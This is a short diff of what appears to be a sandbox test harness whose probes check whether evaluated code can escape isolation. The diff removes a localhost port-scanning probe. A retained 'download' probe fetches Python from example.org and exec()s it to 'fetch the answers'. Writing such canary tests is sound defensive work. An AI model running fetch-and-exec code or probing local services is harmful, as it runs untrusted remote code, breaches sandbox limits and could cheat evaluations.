@@ -12,10 +12,6 @@ talk = socket.socket(socket.AF_UNIX)
 talk.settimeout(0.5)
 tried('', lambda: talk.connect('\\0attack-canary'), lambda: talk.recv(100))
 """, rich=True),
-    Attack("loopback", "reach services of the machine", TRIED + """
-for port in (22, 80, 443, 5432, 8000, 8786, 8787, 8888, 8889):
-    tried('CANARY-REACHED', lambda: socket.create_connection(('127.0.0.1', port), timeout=0.2))
-"""),
     Attack("download", "fetch the answers", TRIED + """
 import urllib.request
 tried('', lambda: exec(urllib.request.urlopen('http://example.org/answers.py', timeout=1).read(), globals()))
